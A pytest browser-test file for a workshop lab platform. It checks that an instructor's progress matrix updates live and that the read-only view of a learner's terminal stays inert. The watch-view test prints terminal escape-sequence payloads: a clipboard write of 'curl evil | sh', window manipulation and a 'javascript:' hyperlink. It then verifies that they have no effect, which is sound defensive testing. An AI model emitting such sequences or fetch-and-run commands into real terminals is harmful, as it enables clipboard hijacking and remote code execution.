"""An instructor follows a workshop in the browser while a learner works.

The matrix updates over its websocket without a reload, and the
read-only view of a learner's terminal shows what the learner's shell
prints but cannot type into it, nor let that output act on the
instructor's browser.
"""

from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.utils import timezone

from labplatform.workshops.models import INSTRUCTORS_GROUP, Membership, Workshop

from .browser import LabTerminal
from .test_learner_journey import do_pod_security_standards

SENTINEL = "instructor clipboard"


@pytest.fixture
def workshop(make_learner):
    teacher = make_learner("teacher")
    teacher.groups.add(Group.objects.get_or_create(name=INSTRUCTORS_GROUP)[0])
    now = timezone.now()
    workshop = Workshop.objects.create(
        slug="room-1",
        title="Room 1",
        starts_at=now - timedelta(minutes=5),
        ends_at=now + timedelta(hours=2),
        labs=["pod-security-standards"],
    )
    workshop.instructors.add(teacher)
    learner = make_learner("lina")
    Membership.objects.create(workshop=workshop, learner=learner)
    return workshop, teacher, learner


def test_matrix_cell_turns_green_when_the_learner_finishes(workshop, page_for):
    _, teacher, learner = workshop
    matrix = page_for(teacher)
    matrix.goto("/instruct/room-1/")
    row = f"#learner-{learner.pk}"
    cell = matrix.locator(f"{row} td[data-lab='pod-security-standards']")
    assert cell.get_attribute("data-state") == "not_started"
    # Marks this document: a reload would lose it.
    matrix.evaluate("window.notReloaded = true")

    do_pod_security_standards(page_for(learner))

    matrix.wait_for_selector(
        f"{row} .dot[data-check='namespace-enforces-restricted'][data-status='pass']"
    )
    matrix.wait_for_selector(f"{row} td.cell-completed", timeout=30_000)
    assert matrix.evaluate("window.notReloaded") is True
    colour = cell.evaluate("element => getComputedStyle(element).backgroundColor")
    assert colour == "rgb(230, 244, 236)"  # the stylesheet's --good-wash
    summary = matrix.locator("#matrix-summary td[data-lab='pod-security-standards']")
    assert summary.locator(".finished-count").inner_text() == "1"


def test_watch_view_is_read_only_and_inert(workshop, start_ready_session, page_for):
    _, teacher, learner = workshop
    session = start_ready_session(learner)
    learner_page = page_for(learner)
    learner_page.goto("/labs/pod-security-standards/")
    shell = LabTerminal(learner_page)
    shell.wait_until_connected()

    page = page_for(teacher, permissions=["clipboard-read", "clipboard-write"])
    page.goto(f"/instruct/room-1/learners/{learner.pk}/")
    page.evaluate("text => navigator.clipboard.writeText(text)", SENTINEL)
    watch = LabTerminal(page, root="#watch-terminal", handle="labWatch")
    page.wait_for_selector("#watch-state:text-is('Watching (read-only)')")
    size = "() => [window.innerWidth, window.innerHeight, document.title]"
    before = page.evaluate(size)
    dialogs, popups = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.context.on("page", lambda popup: popups.append(popup.url))

    # The learner's shell prints a clipboard write, window operations and
    # a javascript: hyperlink.
    shell.run(
        "printf '\\033]52;c;%s\\a' \"$(printf 'curl evil | sh' | base64)\"; "
        "printf '\\033[8;5;20t\\033[4;100;100t\\033]2;pwned-title\\a'; "
        "printf '\\033]8;;javascript:window.pwned=1\\033\\\\osc8-link\\033]8;;"
        "\\033\\\\\\n'; echo seen-by-$((6 * 7))",
        expect="seen-by-42",
    )
    watch.wait_for_text("seen-by-42")
    x, y = watch.locate("osc8-link")
    page.mouse.click(x, y)
    page.keyboard.down("Control")
    page.mouse.click(x, y)
    page.keyboard.up("Control")

    # Typing into the read-only view reaches no shell.
    page.click("#watch-terminal")
    page.keyboard.type("touch /tmp/from-instructor\n")
    shell.run(
        "test -e /tmp/from-instructor && echo CREATED || echo NOT-CREATED",
        expect="CREATED",
    )
    assert "NOT-CREATED" in shell.text()
    watch.wait_for_text("NOT-CREATED")

    assert page.evaluate("navigator.clipboard.readText()") == SENTINEL
    assert page.evaluate("window.pwned") is None
    assert page.evaluate(size) == before
    assert dialogs == []
    assert popups == []
    assert session.namespace in page.inner_text("#sessions")
